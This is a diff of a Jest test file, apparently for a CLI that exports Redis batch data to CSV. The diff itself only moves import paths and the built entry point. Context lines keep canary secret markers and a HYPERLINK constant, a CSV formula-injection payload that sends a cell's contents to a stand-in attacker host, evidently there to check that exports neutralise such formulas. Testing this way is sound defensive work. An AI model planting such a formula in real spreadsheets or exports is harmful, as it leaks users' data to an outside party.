@@ -14,9 +14,9 @@ import { fileURLToPath } from 'node:url';
 import { afterEach, describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 
-import { resolveConfig } from '../../src/config.js';
-import { allBatchKeys } from '../../src/keys.js';
-import { makeLogger } from '../../src/logger.js';
+import { resolveConfig } from '../../src/config/config.js';
+import { allBatchKeys } from '../../src/store/keys.js';
+import { makeLogger } from '../../src/config/logger.js';
 import { deletePrefix, makeTestEnv, phones, type TestEnv, uniquePrefix } from '../helpers/harness.js';
 import { dumpPrefix, keysUnder } from '../helpers/redis-dump.js';
 
@@ -26,7 +26,7 @@ const WRONG_KEY = 'key_WRONG_c4n4ryValue_1a2b3c4d5e6f';
 const SECRET_MARKS = ['s3cr3tValue', 'c4n4ryValue', KEY, WRONG_KEY];
 const WABA = '919000000000';
 const TTL_DAYS = 3;
-const CLI = fileURLToPath(new URL('../../dist/src/cli.js', import.meta.url));
+const CLI = fileURLToPath(new URL('../../dist/src/main.js', import.meta.url));
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
 const FORMULA_START = /^[=+\-@\t\r]/;
 
